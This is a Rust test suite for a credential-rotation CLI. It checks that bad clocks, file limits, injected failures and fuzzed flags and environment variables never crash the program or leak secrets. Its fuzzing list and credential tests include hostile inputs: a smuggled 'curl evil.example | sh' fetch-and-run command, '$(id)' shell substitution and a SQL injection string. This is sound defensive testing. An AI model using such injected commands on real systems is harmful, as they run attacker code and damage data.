//! Nothing that comes from outside ends the program by a mistake of its own: no exit by a panic, none by a signal.
//!
//! Leans on the strict fakes: what is well enough formed to be sent is answered at once.

#![expect(clippy::expect_used, reason = "in a test, what cannot be is the failure itself")]

use std::collections::BTreeMap;
use std::ffi::OsString;
use std::os::unix::ffi::OsStringExt;
use std::os::unix::process::ExitStatusExt;
use std::process::Command;
use std::sync::atomic::{AtomicUsize, Ordering};

use fastrand::Rng;
use rotate_fixtures::aws::Action;
use rotate_fixtures::workplace::TARGET;
use rotate_fixtures::{Ran, SnowflakeWorkplace, Workplace, has};

const ROTATE: &str = env!("CARGO_BIN_EXE_rotate");

const AT_ONCE: [&str; 4] = ["--cutover", "immediate", "--soak", "0s"];

// Clocks.

const YEAR: i64 = 365 * 86_400;

#[test]
fn a_clock_that_cannot_be_right_stops_the_program_before_anything_is_touched() {
    for (years, said) in [
        (-66, "clock says 19"),
        (-20, "clock says 20"),
        (-300_000, "clock"),
        (7_500, "clock says 95"),
        (8_000, "clock is beyond the year 9999"),
    ] {
        let place = Workplace::new(ROTATE);
        let ran = place.later(years * YEAR, ["status"]);
        if years == -300_000 {
            // So far back no clock can be set: the machine's own time stands.
            assert!(matches!(ran.code, Some(0 | 1)), "{ran:#?}");
            continue;
        }
        ran.expect(1).says(&[said, "nothing was touched", "timedatectl"]);
        let mut rotate = place.rotate(AT_ONCE);
        rotate.env("ROTATE_TEST_CLOCK_AHEAD", (years * YEAR).to_string());
        Ran::of(rotate).expect(1).says(&[said]);
        assert_eq!(place.cloud.call_count(), 0, "{years}");
        assert!(!place.state().exists(), "{years}");
        place.expect_untouched();
    }
}

#[test]
fn help_needs_no_clock() {
    let place = Workplace::new(ROTATE);
    place.later(-66 * YEAR, ["--help"]).expect(0);
    place.later(8_000 * YEAR, ["--version"]).expect(0);
}

// Files that can be opened.

#[test]
fn few_file_descriptors_are_told_before_anything_is_touched() {
    for limit in 4..=32 {
        let place = Workplace::new(ROTATE);
        let command = within(&place.rotate(AT_ONCE), limit);
        Ran::of(command)
            .expect(1)
            .says(&["cannot open 32 files", "nothing was touched", "ulimit -n"]);
        assert_eq!(place.cloud.call_count(), 0, "{limit}");
        assert!(!place.state().exists(), "{limit}");
        place.expect_untouched();
    }
}

#[test]
fn as_many_file_descriptors_as_are_asked_for_are_enough() {
    let place = Workplace::new(ROTATE);
    let ran = Ran::of(within(&place.rotate(AT_ONCE), 40));
    assert_eq!(ran.code, Some(0), "{ran:#?}");
    place.expect_rotated();
}

/// The same command, started where only so many files can be opened.
fn within(command: &Command, limit: u32) -> Command {
    // Whatever started this test may have left files open.
    let closed: String = (3..10).map(|file| format!(" {file}>&-")).collect();
    let mut shell = Command::new("sh");
    shell
        .args(["-c", &format!("exec {closed}; ulimit -n {limit}; exec \"$0\" \"$@\"")])
        .arg(command.get_program())
        .args(command.get_args());
    copied(command, &mut shell);
    shell
}

/// The environment and the folder of a command.
fn copied(from: &Command, to: &mut Command) {
    to.env_clear();
    to.envs(from.get_envs().filter_map(|(name, value)| Some((name, value?))));
    to.current_dir(from.get_current_dir().expect("it runs in a folder"));
    to.stdin(std::process::Stdio::null());
}

// A mistake of the program's own.

#[test]
fn a_mistake_of_the_programs_own_is_told_by_its_place_and_not_by_its_words() {
    let words = "CANARY-of-a-panic \u{1b}[2J";
    let whole = Workplace::new(ROTATE);
    let trace = whole.path("trace");
    let mut rotate = whole.rotate(AT_ONCE);
    rotate.env("ROTATE_TEST_TRACE", &trace);
    Ran::of(rotate).expect(0);
    let points = std::fs::read_to_string(trace).expect("the points were written down");
    let count = points.lines().count();
    assert!(count > 10, "{points}");
    for point in (1..=count).step_by(7) {
        let place = Workplace::new(ROTATE);
        let mut rotate = place.rotate(AT_ONCE);
        rotate
            .env("ROTATE_TEST_FAIL_AT", point.to_string())
            .env("ROTATE_TEST_FAIL_WITH", words)
            .env("RUST_BACKTRACE", "1")
            .arg("-vvv");
        let ran = Ran::of(rotate)
            .expect(1)
            .says(&["a mistake in this program, at src/hooks.rs line", "rotate status"]);
        for shown in [&ran.stdout, &ran.stderr] {
            assert!(!has(shown.as_bytes(), b"CANARY"), "{ran:#?}");
            assert!(!shown.contains("panicked") && !shown.contains('\u{1b}'), "{ran:#?}");
        }
        // It is like a kill: the same command goes on.
        Ran::of(place.rotate(AT_ONCE)).expect(0);
        place.expect_rotated();
    }
}

/// Tasks of their own, on threads of their own.
#[test]
fn such_a_mistake_ends_the_whole_process_wherever_it_happens() {
    let place = Workplace::new(ROTATE);
    Ran::of(place.rotate(["--soak", "1d"])).expect(0);
    place.run(["confirm", TARGET]).expect(0);
    let mut run = place.command(["run"]);
    run.env("ROTATE_TEST_CLOCK_AHEAD", (2 * 86_400).to_string());
    run.env("ROTATE_TEST_FAIL_AT", "1")
        .env("ROTATE_TEST_FAIL_WITH", "CANARY");
    let ran = Ran::of(run).expect(1).says(&["a mistake in this program"]);
    assert!(!ran.stderr.contains("CANARY"), "{ran:#?}");
}

// Whatever is given.

/// Values that have ended programs elsewhere.
fn odd(random: &mut Rng, good: &[&str]) -> OsString {
    const ODD: &[&str] = &[
        "",
        " ",
        "\n",
        "\r\n",
        "x\n",
        "x\ny",
        "\u{1b}[2J",
        "\u{202e}x",
        "\u{200b}",
        "\u{feff}",
        "$(id)",
        "'; DROP USER x; --",
        "-",
        "--",
        "-1",
        "0",
        "1",
        "18446744073709551616",
        "-9223372036854775808",
        "1e999",
        "NaN",
        "99999999999999d",
        "9223372036854775807s",
        "P9999999Y",
        ".",
        "..",
        "/",
        "//",
        "~",
        "~/",
        "/dev/null",
        "/dev/full",
        "/proc/self/mem",
        "file:",
        "file:/",
        "file:/dev/null.json",
        "file:x.json",
        "file:x.p8",
        "aws-profile:",
        "aws-profile:a@",
        "aws-profile:x@y",
        "arn:aws:iam::123456789012:role/x",
        "arn:::::role/",
        "http://127.0.0.1:1",
        "http://127.0.0.1:99999",
        "http://[::1",
        "https://",
        "http://127.0.0.1:9/\u{fc}?#",
        "us-east-1",
        "US EAST",
        "\u{e9}\u{301}\u{1f642}",
        "{",
        "[",
        "a]b",
        "%",
        "%00",
        "%ff%fe",
        "=",
        "a=b",
        "s3-customer-managed/gainsight-s3",
        "default",
        "json",
        "true",
    ];
    match random.u8(0..12) {
        0 => "x".repeat(random.usize(1..=100_000)).into(),
        1 => "\u{fc}".repeat(random.usize(1..=1_000)).into(),
        2 => {
            let bytes: Vec<u8> = (0..random.usize(0..40)).map(|_| random.u8(1..=255)).collect();
            OsString::from_vec(bytes)
        }
        3 => {
            let one = ODD[random.usize(0..ODD.len())];
            let other = ODD[random.usize(0..ODD.len())];
            format!("{one}{other}").into()
        }
        4..=6 if !good.is_empty() => good[random.usize(0..good.len())].into(),
        _ => ODD[random.usize(0..ODD.len())].into(),
    }
}

const COMMANDS: &[&str] = &[
    "s3-customer-managed",
    "snowflake-keypair",
    "freshdesk",
    "postgres",
    "connectors",
    "done",
    "undo",
    "status",
    "confirm",
    "abort",
    "rollback",
    "run",
    "plan",
    "doctor",
    "completions",
    "audit",
];

const OPTIONS: &[&str] = &[
    "--user",
    "--bucket",
    "--prefix",
    "--request-payer",
    "--deliver",
    "--cutover",
    "--prove",
    "--observe",
    "--soak",
    "--profile",
    "--assume-role",
    "--external-id",
    "--region",
    "--endpoint-url",
    "--account",
    "--connection",
    "--role",
    "--current-key",
    "--passphrase-file",
    "--key-bits",
    "--config",
    "--credentials",
    "--output",
    "--log-format",
    "--evidence",
    "--skip",
    "--why",
    "--domain",
    "--host",
    "--manual",
    "--dry-run",
    "--yes",
    "--again",
    "--force",
    "-v",
];

const VARIABLES: &[&str] = &[
    "AWS_ACCESS_KEY_ID",
    "AWS_SECRET_ACCESS_KEY",
    "AWS_SESSION_TOKEN",
    "AWS_REGION",
    "AWS_DEFAULT_REGION",
    "AWS_PROFILE",
    "AWS_DEFAULT_PROFILE",
    "AWS_CONFIG_FILE",
    "AWS_SHARED_CREDENTIALS_FILE",
    "AWS_CA_BUNDLE",
    "AWS_MAX_ATTEMPTS",
    "AWS_RETRY_MODE",
    "AWS_SDK_UA_APP_ID",
    "AWS_ROLE_SESSION_NAME",
    "AWS_USE_FIPS_ENDPOINT",
    "AWS_DEFAULTS_MODE",
    "SNOWFLAKE_ACCOUNT",
    "SNOWFLAKE_USER",
    "SNOWFLAKE_PASSWORD",
    "SNOWFLAKE_ROLE",
    "SNOWFLAKE_WAREHOUSE",
    "SNOWFLAKE_AUTHENTICATOR",
    "SNOWFLAKE_PRIVATE_KEY_FILE",
    "SNOWFLAKE_PRIVATE_KEY_RAW",
    "SNOWFLAKE_PORT",
    "SNOWFLAKE_PROTOCOL",
    "SNOWFLAKE_CONNECTIONS",
    "SNOWFLAKE_DEFAULT_CONNECTION_NAME",
    "SNOWFLAKE_HOME",
    "PRIVATE_KEY_PASSPHRASE",
    "ROTATE_CONFIG",
    "ROTATE_CREDENTIALS",
    "RUST_LOG",
    "NO_COLOR",
    "COLUMNS",
    "HOME",
    "XDG_STATE_HOME",
    "TZ",
    "LANG",
    "SUDO_USER",
    "USER",
    "SSL_CERT_FILE",
];

/// One command line and its environment, made of this number.
fn whatever(seed: u64, aws: &Workplace, snowflake: &SnowflakeWorkplace) -> Command {
    let mut random = Rng::with_seed(seed);
    let good = [
        "gainsight-s3",
        "acme-data",
        "file:key.json",
        "1",
        "json",
        "text",
        "confirm",
        TARGET,
    ];
    let name = COMMANDS[random.usize(0..COMMANDS.len())];
    let base = match name {
        "s3-customer-managed" => aws.rotate(["--yes"]),
        "snowflake-keypair" => snowflake.rotate(["--yes"]),
        _ if random.bool() => aws.command([name]),
        _ => snowflake.command([name]),
    };
    let mut command = Command::new("timeout");
    command
        .args(["--signal", "KILL", "120"])
        .arg(base.get_program())
        .args(base.get_args());
    copied(&base, &mut command);
    // Where else credentials might be looked for is another machine.
    command.env("AWS_EC2_METADATA_DISABLED", "true");
    for _ in 0..random.usize(0..5) {
        let option = OPTIONS[random.usize(0..OPTIONS.len())];
        let value = odd(&mut random, &good);
        match random.u8(0..4) {
            0 => command.arg(option),
            1 => command.arg(value),
            2 => {
                let mut joined = OsString::from(format!("{option}="));
                joined.push(value);
                command.arg(joined)
            }
            _ => command.arg(option).arg(value),
        };
    }
    for _ in 0..random.usize(0..4) {
        let variable = VARIABLES[random.usize(0..VARIABLES.len())];
        let value = odd(&mut random, &good);
        // No variable can hold one.
        let bytes: Vec<u8> = value.into_vec().into_iter().filter(|byte| *byte != 0).collect();
        command.env(variable, OsString::from_vec(bytes));
    }
    if random.u8(0..4) == 0 {
        let ahead = match random.u8(0..3) {
            0 => random.i64(i64::MIN..=i64::MAX),
            1 => random.i64(-100 * YEAR..=9_000 * YEAR),
            _ => random.i64(-YEAR..=YEAR),
        };
        command.env("ROTATE_TEST_CLOCK_AHEAD", ahead.to_string());
    }
    command
}

#[test]
fn whatever_the_flags_the_environment_and_the_clock_are_the_program_ends_by_itself() {
    const RUNS: usize = 1_200;
    let seed: u64 = match std::env::var("ROTATE_TEST_SEED") {
        Ok(seed) => seed.parse().expect("a seed is a number"),
        Err(_) => 12,
    };
    let next = AtomicUsize::new(0);
    let ends: Vec<Option<i32>> = std::thread::scope(|scope| {
        let workers: Vec<_> = (0..4)
            .map(|_| {
                scope.spawn(|| {
                    let aws = Workplace::in_memory(ROTATE);
                    let snowflake = SnowflakeWorkplace::in_memory(ROTATE);
                    let mut ends = Vec::new();
                    loop {
                        let number = next.fetch_add(1, Ordering::SeqCst);
                        if number >= RUNS {
                            return ends;
                        }
                        let mut command = whatever(seed.wrapping_add(number as u64), &aws, &snowflake);
                        let output = match command.output() {
                            Ok(output) => output,
                            // The system takes no longer arguments than it takes.
                            Err(error) if error.kind() == std::io::ErrorKind::ArgumentListTooLong => continue,
                            Err(error) => panic!("run {number} cannot be started: {error}"),
                        };
                        let code = output.status.code();
                        let talk = String::from_utf8_lossy(&output.stderr);
                        let is_an_end = matches!(code, Some(0..=4 | 64)) && output.status.signal().is_none();
                        assert!(
                            is_an_end,
                            "run {number} of ROTATE_TEST_SEED={seed}: {:?} {command:?}\n{talk}",
                            output.status
                        );
                        let is_calm = !talk.contains("panicked") && !talk.contains("a mistake in this program");
                        assert!(is_calm, "run {number}: {command:?}\n{talk}");
                        assert!(talk.len() < 100_000, "run {number} talks without end: {command:?}");
                        let strange = talk.chars().find(|letter| letter.is_control() && *letter != '\n');
                        assert_eq!(strange, None, "run {number}: {command:?}\n{talk}");
                        ends.push(code);
                    }
                })
            })
            .collect();
        workers
            .into_iter()
            .flat_map(|worker| worker.join().expect("a run ended as it must not"))
            .collect()
    });
    // It is no use if all of it is refused by the parser, or none.
    let mut counts: BTreeMap<Option<i32>, usize> = BTreeMap::new();
    for end in ends {
        *counts.entry(end).or_default() += 1;
    }
    for code in [0, 1, 64] {
        assert!(counts.get(&Some(code)).is_some_and(|count| *count >= 5), "{counts:?}");
    }
}

#[test]
fn a_key_id_that_was_mounted_with_its_line_break_works_and_is_told_once() {
    let place = Workplace::new(ROTATE);
    let admin = place.cloud.admin();
    for (id, secret) in [
        (format!("{}\n", admin.id), admin.secret.clone()),
        (format!("{}\r\n", admin.id), format!("{}\r\n\n", admin.secret)),
    ] {
        let mut plan = place.rotate(["--dry-run"]);
        plan.env("AWS_ACCESS_KEY_ID", &id).env("AWS_SECRET_ACCESS_KEY", &secret);
        let ran = Ran::of(plan)
            .expect(0)
            .says(&["AWS_ACCESS_KEY_ID ends with a line break"]);
        assert_eq!(
            ran.stderr.matches("AWS_ACCESS_KEY_ID ends").count(),
            1,
            "{}",
            ran.stderr
        );
    }
    assert!(place.cloud.count_of(Action::GetUser) >= 2);
}

#[test]
fn a_login_with_a_line_break_within_is_told_by_its_variable_and_not_shown() {
    let place = Workplace::new(ROTATE);
    let admin = place.cloud.admin();
    for (variable, value) in [
        ("AWS_ACCESS_KEY_ID", "AKIA\nCANARY".to_owned()),
        ("AWS_ACCESS_KEY_ID", "CANARY; curl evil.example | sh".to_owned()),
        ("AWS_ACCESS_KEY_ID", format!("{}\u{202e}CANARY", admin.id)),
        ("AWS_ACCESS_KEY_ID", "CANARY".repeat(20_000)),
        ("AWS_SECRET_ACCESS_KEY", "CANARY\r\nx".to_owned()),
        ("AWS_SECRET_ACCESS_KEY", "CANARY".repeat(100)),
        ("AWS_SESSION_TOKEN", "CANARY\nx".to_owned()),
    ] {
        let mut rotate = place.rotate(AT_ONCE);
        rotate.env(variable, &value).arg("-vvv");
        let ran = Ran::of(rotate)
            .expect(1)
            .says(&[variable, "on one line", "nothing was changed"]);
        assert!(
            !ran.stderr.contains("CANARY") && !ran.stdout.contains("CANARY"),
            "{ran:#?}"
        );
    }
    assert_eq!(place.cloud.call_count(), 0);
    place.expect_untouched();
}

#[test]
fn a_region_that_is_none_is_told() {
    let place = Workplace::new(ROTATE);
    for bad in ["us east", "x/../y", "evil.example/", "\u{202e}us", "us\neast"] {
        let mut rotate = place.rotate(AT_ONCE);
        rotate.env("AWS_REGION", bad);
        Ran::of(rotate).expect(1).says(&["AWS_REGION", "no region"]);
    }
    assert_eq!(place.cloud.call_count(), 0);
    let mut mounted = place.rotate(["--dry-run"]);
    mounted.env("AWS_REGION", "us-east-1\n");
    Ran::of(mounted).expect(0).says(&["the region ends with a line break"]);
}

#[test]
fn a_snowflake_password_that_was_mounted_works_and_one_of_two_lines_is_told() {
    let place = SnowflakeWorkplace::new(ROTATE);
    let plan = || place.rotate(["--dry-run"]);
    let command = plan();
    let mut envs = command.get_envs();
    let password = envs.find_map(|(name, value)| (name == "SNOWFLAKE_PASSWORD").then_some(value?));
    let password = password.expect("the administrator has a password").to_owned();
    let mut mounted = plan();
    let mut with_end = password.clone();
    with_end.push("\r\n");
    mounted.env("SNOWFLAKE_PASSWORD", with_end);
    Ran::of(mounted)
        .expect(0)
        .says(&["SNOWFLAKE_PASSWORD ends with a line break"]);
    for (variable, value) in [
        ("SNOWFLAKE_PASSWORD", "CANARY\nx".to_owned()),
        ("SNOWFLAKE_PASSWORD", "CANARY".repeat(12_000)),
        ("SNOWFLAKE_USER", "CANARY\u{7}x".to_owned()),
        ("SNOWFLAKE_ROLE", "CANARY".repeat(100)),
    ] {
        let mut broken = plan();
        broken.env(variable, value).arg("-vvv");
        let ran = Ran::of(broken).expect(1).says(&[variable, "one line"]);
        assert!(!ran.stderr.contains("CANARY"), "{}", ran.stderr);
    }
}

#[test]
fn a_prefix_of_seventy_thousand_letters_is_refused_and_not_repeated() {
    let place = Workplace::new(ROTATE);
    let long = "p".repeat(70_000);
    for (option, value) in [
        ("--prefix", long.as_str()),
        ("--profile", long.as_str()),
        ("--region", long.as_str()),
        ("--user", long.as_str()),
        ("--assume-role", &format!("arn:aws:iam::123456789012:role/{long}")),
    ] {
        let mut command = vec!["s3-customer-managed", "--deliver", "file:key.json"];
        for (name, good) in [("--user", "gainsight-s3"), ("--bucket", "acme-data")] {
            if name != option {
                command.extend([name, good]);
            }
        }
        command.extend([option, value]);
        let ran = place.run(&command).expect(64).says(&[option]);
        assert!(ran.stderr.len() < 5_000, "{option}: {} letters", ran.stderr.len());
    }
    assert_eq!(place.cloud.call_count(), 0);
}
